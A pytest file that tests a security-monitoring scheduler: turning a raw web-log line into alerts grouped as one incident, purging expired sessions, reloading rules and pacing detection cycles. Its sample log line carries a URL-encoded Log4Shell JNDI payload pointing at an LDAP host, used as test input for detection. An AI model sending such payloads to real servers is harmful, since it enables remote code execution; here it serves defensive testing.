"""The service scheduler: its jobs, and one detect-and-group pass from a raw log line to an incident."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from collectors.parsers import ParseContext, parse
from soc import search
from soc.accounts import store as accounts_store
from soc.config import Settings
from soc.scheduler import ServiceScheduler
from soc.web import jobs as web_jobs

LINE = (b'198.51.100.9 - - [27/Nov/2026:00:00:01 +0000] "GET /s?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9'
        b'%2Fa%7D HTTP/1.1" 200 153 "-" "curl/7.88.1"')


@pytest.fixture()
def scheduler(isolated: Settings, monkeypatch: pytest.MonkeyPatch) -> ServiceScheduler:
    # No settle delay: the test refreshes explicitly, so everything indexed is already visible.
    monkeypatch.setenv("SOC_DETECT_SETTLE_S", "0")
    monkeypatch.setenv("SOC_DETECT_RULE_PATHS", "rules/web")
    return ServiceScheduler(isolated)


def test_it_schedules_detection_sla_and_retention(scheduler: ServiceScheduler) -> None:
    assert {"detect", "group", "sla", "retention", "session-purge"} <= set(scheduler.job_ids())
    for job_id in ("detect", "group"):  # grouping in a job of its own: detection does not wait for it
        job = scheduler.scheduler.get_job(job_id)
        assert job is not None and job.trigger.interval.total_seconds() == scheduler.detection.interval_s


def test_a_raw_attack_line_becomes_one_incident(isolated: Settings, scheduler: ServiceScheduler) -> None:
    client = search.client(isolated)
    names = search.names(isolated)
    event = parse("nginx", LINE, ParseContext(received_at=datetime.now(UTC)))
    event["organization"] = {"id": "so-tttt"}
    event["log"] = {"source": {"id": "src-1"}}
    client.index(index=names.stream("logs-web", "so-tttt"), body=event, op_type="create", refresh=True)

    scheduler.detect_and_group()
    client.indices.refresh(index=f"{names.alerts},{names.incidents}")
    alerts = client.search(index=names.alerts, body={"query": {"match_all": {}}})["hits"]["hits"]
    assert alerts, "the JNDI line raised no alert"
    assert all(a["_source"].get("incident_id") for a in alerts), "an alert was left ungrouped"
    incidents = client.search(index=names.incidents, body={"query": {"match_all": {}}})["hits"]["hits"]
    # one attacker, one case: every rule the address triggered is in the same incident
    [incident] = incidents
    assert set(incident["_source"]["rule_ids"]) == {a["_source"]["rule"]["id"] for a in alerts}
    assert incidents[0]["_source"]["organization"]["id"] == "so-tttt"
    assert incidents[0]["_source"]["status"] == "new"

    scheduler.detect_and_group()  # a second pass finds nothing new and changes nothing
    client.indices.refresh(index=f"{names.alerts},{names.incidents}")
    assert client.count(index=names.alerts)["count"] == len(alerts)
    assert client.count(index=names.incidents)["count"] == len(incidents)


def test_expired_console_sessions_are_purged(isolated: Settings) -> None:
    client, names = search.client(isolated), search.names(isolated)
    now = datetime.now(UTC)
    for secret, expires in (("live-secret", now + timedelta(hours=1)), ("dead-secret", now - timedelta(minutes=1))):
        accounts_store.create_session(client, names, secret, {"name": "ana", "user": "ana", "csrf": "x", "lang": "vi",
                                                         "created": now.isoformat(), "expires": expires.isoformat()})
    client.index(index=names.users, id="user-ana", refresh=True,
                 body={"kind": "user", "name": "ana", "role": "analyst", "agencies": ["so-tttt"]})
    assert web_jobs.purge_sessions(isolated, now) == 1
    assert accounts_store.get_session(client, names, "live-secret") is not None
    assert accounts_store.get_session(client, names, "dead-secret") is None
    assert accounts_store.get_doc(client, names, "user-ana") is not None  # only sessions are touched
    assert web_jobs.purge_sessions(isolated, now) == 0


def test_rules_are_parsed_again_only_when_a_rule_file_changes(isolated: Settings, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    rule = tmp_path / "one.yml"
    rule.write_text(Path("rules/web/client_error_burst.yml").read_text())
    monkeypatch.setenv("SOC_DETECT_RULE_PATHS", str(tmp_path))
    s = ServiceScheduler(isolated)
    first = s.rules()
    assert len(first) == 2 and s.rules() is first  # unchanged files: the same compiled list
    rule.write_text(rule.read_text().replace("gte: 20", "gte: 30"))
    second = s.rules()
    assert second is not first and any(getattr(c, "count", None) == 30 for c in second)
    (tmp_path / "two.yml").write_text(Path("rules/web/login_bruteforce.yml").read_text())
    assert len(s.rules()) > 2


def test_a_cycle_that_took_the_whole_period_is_followed_at_once(
        isolated: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    """Real cycles on the node, counted by detection's own cycle counter (exposed at /metrics): with a
    period shorter than any cycle the job runs cycles back to back until its bound; with a period
    longer than a cycle it runs one."""
    from soc.detection import metrics

    def cycles() -> float:
        return metrics.snapshot().counters["cycles"]

    monkeypatch.setenv("SOC_DETECT_SETTLE_S", "0")
    monkeypatch.setenv("SOC_DETECT_RULE_PATHS", "rules/web")
    monkeypatch.setenv("SOC_DETECT_BUSY_MAX_S", "1.5")
    monkeypatch.setenv("SOC_DETECT_INTERVAL_S", "0.001")
    service = ServiceScheduler(isolated)
    before = cycles()
    service.detect_and_group()
    assert cycles() - before >= 2
    service.detection = replace(service.detection, interval_s=300)  # the same instance: it holds the slots
    before = cycles()
    service.detect_and_group()
    assert cycles() - before == 1
